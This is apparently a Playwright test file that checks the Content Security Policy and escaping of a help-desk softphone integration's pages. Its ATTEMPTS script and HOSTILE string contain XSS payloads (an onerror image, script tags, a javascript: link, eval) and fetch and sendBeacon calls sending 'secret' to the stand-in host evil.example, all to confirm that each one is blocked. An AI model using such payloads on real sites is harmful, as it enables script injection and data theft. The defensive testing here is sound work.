"""The content security policy of every page: a call needs no more, and foreign code does not run."""

import pytest
from playwright.sync_api import Frame, Route, expect

from browser.stage import ANN, Stage, Tab
from workbench.connect_contact import REGION as HOME

pytestmark = pytest.mark.browser
WATCHED = """addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
  (globalThis.violations ??= []).push(`${effectiveDirective} ${blockedURI}`);
});"""
FOREIGN = "https://evil.example/"
ATTEMPTS = """(foreign) => {
  const put = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
  put("script", { textContent: "globalThis.owned = 'inline script'" });
  put("script", { src: `${foreign}owned.js` });
  put("script", { src: "data:text/javascript,globalThis.owned='data'" });
  put("div", { innerHTML: "<img src=x: onerror=\\"globalThis.owned='attribute'\\">" });
  put("iframe", { src: foreign });
  put("base", { href: foreign });
  put("form", { action: foreign, method: "post" });
  document.forms[document.forms.length - 1].submit();
  put("a", { href: "javascript:globalThis.owned='link'" });
  document.body.lastChild.click();
  // Later, as what a test evaluates itself may make code of text.
  setTimeout(() => (globalThis.owned = (0, eval)("'eval'")));
  setTimeout(() => (globalThis.owned = new Function("return 'function'")()));
  const asked = fetch(foreign).then(() => "answered", () => "refused");
  const told = navigator.sendBeacon(foreign, "secret");
  return asked.then((answer) => [answer, document.baseURI.startsWith(foreign)]);
}"""


@pytest.fixture
def watched(stage: Stage) -> Stage:
    """A stage on which every page notes what its policy has refused."""
    stage.begin_pages_with(WATCHED)
    return stage


def ours(tab: Tab) -> list[Frame]:
    return [
        frame for frame in tab.page.frames if "/assets/" in frame.url and frame.url.partition("?")[0].endswith(".html")
    ]


def violations(tab: Tab) -> list[str]:
    return [one for frame in ours(tab) for one in frame.evaluate("globalThis.violations ?? []")]


def whole_call(stage: Stage, tab: Tab) -> None:
    call = stage.ring(ANN)
    expect(tab.front).to_contain_text("Ann Miller")
    tab.ccp.get_by_role("button", name="Accept").click()
    stage.until(tab, lambda: stage.made)
    tab.frame("ticket_sidebar")
    stage.hang_up(call)
    stage.until(tab, lambda: stage.voices(stage.made[0]["id"]))
    stage.clear(call)


def test_no_page_needs_more_than_its_policy_allows_during_a_whole_call(watched: Stage) -> None:
    tab = watched.open().ready()
    whole_call(watched, tab)
    tab.page.get_by_role("button", name="New ticket").click()
    tab.page.get_by_role("button", name="Deskline").first.click()
    expect(tab.frame("nav_bar").locator("#view")).to_contain_text("Done")
    places = {frame.url.partition("?")[0].rpartition("/")[2].removesuffix(".html") for frame in ours(tab)}
    assert places == {"background", "top_bar", "nav_bar", "ticket_sidebar", "user_sidebar", "new_ticket_sidebar"}
    assert violations(tab) == []
    assert not tab.softphone.evaluate(CHATJS)


CHATJS = "Boolean(window.connect.ChatSession)"
ASKS = """(address) => fetch(address, { mode: "no-cors" }).then(() => "answered", () => "refused")"""


def test_a_chat_needs_no_more_and_then_only_its_regions_participant_service_can_be_reached(watched: Stage) -> None:
    tab = watched.open().ready()
    regions = [f"{watched.bench.origins[2]}/participant.connect.{name}.amazonaws.com/" for name in ("eu-west-2", HOME)]
    assert [tab.softphone.evaluate(ASKS, address) for address in regions] == ["answered", "answered"]
    chat = watched.ring_chat("Ann", attributes={"customer_email": "ann@example.com"})
    watched.accept(chat)
    watched.until(tab, lambda: watched.made)
    tab.softphone.wait_for_function(CHATJS)
    watched.bench.connect.say(chat, "Hello")
    watched.hang_up(chat)
    watched.until(tab, lambda: "Hello" in str(watched.bench.zendesk.comments(watched.made[0]["id"])))
    assert violations(tab) == []
    assert [tab.softphone.evaluate(ASKS, address) for address in regions] == ["refused", "answered"]
    watched.errors.clear()  # the browser's own words on both


def test_injected_markup_does_not_run_and_cannot_send_anything(watched: Stage) -> None:
    heard: list[str] = []

    def hear(route: Route) -> None:
        heard.append(route.request.url)
        route.fulfill(body="globalThis.owned = 'foreign script'", content_type="text/javascript")

    watched.context.route(f"{FOREIGN}**", hear)
    tab = watched.open().ready()
    call = watched.bench.connect.ring(ANN)
    watched.bench.connect.accept(call)
    tab.frame("ticket_sidebar")
    for frame in ours(tab):
        assert frame.evaluate(ATTEMPTS, FOREIGN) == ["refused", False], frame.url
    tab.page.wait_for_timeout(500)
    assert [frame.evaluate("globalThis.owned") for frame in ours(tab)] == [None] * len(ours(tab))
    assert heard == []
    refused = {one.split()[0] for one in violations(tab)}
    assert {
        "script-src-elem",
        "script-src-attr",
        "script-src",
        "frame-src",
        "connect-src",
        "base-uri",
        "form-action",
    } <= refused
    watched.errors.clear()


HOSTILE = "<img src=x: onerror=\"globalThis.owned='shown'\"><script>globalThis.owned='shown'</script>"


def test_rule_6_3_hostile_names_subjects_numbers_queues_and_attributes_are_text_on_every_page(watched: Stage) -> None:
    desk, connect = watched.bench.zendesk, watched.bench.connect
    people = [desk.add_user(name=f"{name} {HOSTILE}", phone="+61299990066", shared_phone=True) for name in ("A", "B")]
    desk.add_ticket(requester_id=people[0]["id"], subject=HOSTILE)
    tab = watched.open().ready()
    flow = {"conversation_title": HOSTILE, "customer_name": HOSTILE, HOSTILE: HOSTILE, "pop_incoming": HOSTILE}
    call = connect.ring("+61299990066", attributes=flow)
    connect.accept(call)
    named = tab.softphone.locator(".chooser button", has_text="<img src=x:")
    expect(named).to_have_count(2)
    named.first.click()
    watched.until(tab, lambda: watched.made)
    expect(tab.frame("ticket_sidebar").locator("#view")).to_contain_text("<script>")
    tab.page.get_by_role("button", name="New ticket").click()
    expect(tab.frame("new_ticket_sidebar").locator("#view")).to_contain_text("<img src=x:")
    tab.go_to("user", people[0]["id"])
    expect(tab.frame("user_sidebar").locator("#view")).to_contain_text("<img src=x:")
    tab.page.get_by_role("button", name="Deskline").first.click()
    listed = tab.frame("nav_bar")
    expect(listed.locator("#view")).to_contain_text("<img src=x:")
    listed.get_by_role("button", name="What happened").click()
    expect(listed.locator("#diary-entries tr").first).to_be_visible()
    for frame in ours(tab):
        assert frame.evaluate("[globalThis.owned ?? null, document.querySelectorAll('img, #view script').length]") == [
            None,
            0,
        ]
    assert violations(tab) == []
    connect.hang_up(call)
    watched.until(tab, lambda: watched.voices(watched.made[0]["id"]))
